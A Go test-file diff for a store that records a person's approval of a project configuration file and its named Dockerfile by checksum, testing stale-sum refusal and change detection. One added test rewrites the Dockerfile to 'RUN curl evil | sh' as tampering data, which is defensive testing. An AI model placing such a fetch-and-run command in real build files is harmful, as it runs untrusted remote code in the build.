@@ -42,7 +42,7 @@ func TestAllowStore(t *testing.T) {
 		}
 	}
 
-	if err := store.Allow(ws, f.Sum, f.Raw); err != nil {
+	if err := store.Allow(ws, f.Sum, f); err != nil {
 		t.Fatal(err)
 	}
 	d, err = store.Check(ws, f)
@@ -54,7 +54,7 @@ func TestAllowStore(t *testing.T) {
 		t.Errorf("an uncleaned path: %+v", d)
 	}
 	// Allowing again changes nothing.
-	if err := store.Allow(ws, strings.ToUpper(f.Sum), f.Raw); err != nil {
+	if err := store.Allow(ws, strings.ToUpper(f.Sum), f); err != nil {
 		t.Fatal(err)
 	}
 
@@ -81,19 +81,19 @@ func TestAllowStore(t *testing.T) {
 
 	// The person was shown the old file and accepts its sum: the bytes
 	// the Runner reads now do not match, nothing is recorded.
-	err = store.Allow(ws, shown.Sum, f.Raw)
+	err = store.Allow(ws, shown.Sum, f)
 	if !errors.Is(err, errdefs.ErrConflict) || !strings.Contains(err.Error(), "changed since it was shown") {
 		t.Fatalf("a stale sum: %v", err)
 	}
 	if d, _ := store.Check(ws, f); d.Status != Changed {
 		t.Fatalf("a stale sum was recorded: %+v", d)
 	}
-	if err := store.Allow(ws, "", f.Raw); !errors.Is(err, errdefs.ErrConflict) {
+	if err := store.Allow(ws, "", f); !errors.Is(err, errdefs.ErrConflict) {
 		t.Errorf("no sum: %v", err)
 	}
 
 	// The person reads the new file and accepts it.
-	if err := store.Allow(ws, f.Sum, f.Raw); err != nil {
+	if err := store.Allow(ws, f.Sum, f); err != nil {
 		t.Fatal(err)
 	}
 	if d, _ := store.Check(ws, f); d.Status != Allowed {
@@ -132,12 +132,8 @@ func TestAllowRefusals(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	bad := []byte("env = { GITHUB_TOKEN = \"x\" }\n")
-	if err := store.Allow("/ws", Sum(bad), bad); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), "named like a secret") {
-		t.Errorf("a file Parse refuses: %v", err)
-	}
 	good := []byte("model = \"opus\"\n")
-	if err := store.Allow("ws", Sum(good), good); !errors.Is(err, errdefs.ErrInvalid) {
+	if err := store.Allow("ws", Sum(good), &File{Raw: good}); !errors.Is(err, errdefs.ErrInvalid) {
 		t.Errorf("a relative workspace: %v", err)
 	}
 	if _, err := store.Check("ws", &File{Raw: good}); !errors.Is(err, errdefs.ErrInvalid) {
@@ -179,5 +175,45 @@ func TestShellQuote(t *testing.T) {
 		if got := shellQuote(in); got != want {
 			t.Errorf("shellQuote(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestAllowDockerfile: the Dockerfile a project file names is accepted
+// with it, so a box that edits only the Dockerfile (what runs in the
+// image's build) makes the file Changed, the Dockerfile's diff shown.
+func TestAllowDockerfile(t *testing.T) {
+	store, err := NewAllowStore(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	ws := workspace(t, map[string]string{FileName: "[image]\ndockerfile = \"tools/Dockerfile\"\n",
+		"tools/Dockerfile": "ARG PADDOCK_BASE\nFROM ${PADDOCK_BASE}\nRUN make\n"})
+	f, err := Load(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d, _ := store.Check(ws, f); d.Status != New || !strings.Contains(d.Diff, "+RUN make\n") {
+		t.Fatalf("new: %+v", d)
+	}
+	if err := store.Allow(ws, f.Sum, f); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(ws, "tools", "Dockerfile"), []byte("ARG PADDOCK_BASE\nFROM ${PADDOCK_BASE}\nRUN curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	g, err := Load(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if g.Sum == f.Sum {
+		t.Fatal("a changed Dockerfile left the sum as it was")
+	}
+	d, err := store.Check(ws, g)
+	if err != nil || d.Status != Changed || !strings.Contains(d.Diff, "-RUN make\n+RUN curl evil | sh\n") {
+		t.Fatalf("a changed Dockerfile: %+v %v", d, err)
+	}
+	// The sum the person was shown, before the change, accepts nothing.
+	if err := store.Allow(ws, f.Sum, g); !errors.Is(err, errdefs.ErrConflict) {
+		t.Fatalf("a stale sum: %v", err)
 	}
 }
